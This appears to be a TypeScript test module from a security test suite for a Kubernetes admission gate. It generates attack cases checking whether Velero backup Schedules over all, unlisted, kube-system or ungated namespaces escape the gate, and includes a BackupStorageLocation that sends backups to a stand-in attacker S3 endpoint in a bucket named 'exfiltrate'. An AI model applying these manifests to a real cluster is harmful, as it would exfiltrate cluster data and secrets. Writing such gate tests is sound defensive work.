/**
 * Hole 3 (Velero objects escape the gate): Schedules over every namespace, over no namespace list (all), over
 * an ungated namespace, and a BackupStorageLocation (the operator runs without the flag that allows it).
 */
import type { ResourceType } from "../../../src/kube/types";
import type { AttackCase } from "../support/cases";
import { envelope, lookup, type Stage } from "../support/stage";

const SCHEDULE: ResourceType = { group: "velero.io", version: "v1", kind: "Schedule", plural: "schedules", namespaced: true };
const BSL: ResourceType = { group: "velero.io", version: "v1", kind: "BackupStorageLocation", plural: "backupstoragelocations", namespaced: true };

export async function veleroCases(stage: Stage): Promise<AttackCase[]> {
  const { ns } = stage;
  const schedule = (name: string, template: Record<string, unknown>) => ({ apiVersion: "velero.io/v1", kind: "Schedule", metadata: { name, namespace: ns.velero }, spec: { schedule: "@every 1h", template: { storageLocation: "attacker", ...template } } });
  const exists = (type: ResourceType, name: string) => async () => (await lookup(stage, type, name, ns.velero)) !== undefined;
  const variants: Array<[string, string, Record<string, unknown>]> = [
    ["Velero Schedule over *", "all-star", { includedNamespaces: ["*"] }],
    ["Velero Schedule over * among gated", "star-and-gated", { includedNamespaces: [ns.gated, "*"] }],
    ["Velero Schedule with an empty list", "empty-list", { includedNamespaces: [] }],
    ["Velero Schedule without includedNamespaces", "no-list", {}],
    ["Velero Schedule over kube-system", "kube-system", { includedNamespaces: ["kube-system"] }],
    ["Velero Schedule over an ungated namespace", "ungated", { includedNamespaces: [ns.victim] }],
  ];
  const cases: AttackCase[] = [];
  for (const [attack, name, template] of variants) cases.push({ attack, job: await envelope(stage, "apply", schedule(name, template)), escaped: exists(SCHEDULE, name) });
  cases.push({
    attack: "Velero BackupStorageLocation to the attacker",
    job: await envelope(stage, "apply", { apiVersion: "velero.io/v1", kind: "BackupStorageLocation", metadata: { name: "attacker", namespace: ns.velero }, spec: { provider: "aws", objectStorage: { bucket: "exfiltrate" }, config: { s3Url: "http://203.0.113.7" } } }),
    escaped: exists(BSL, "attacker"),
  });
  return cases;
}
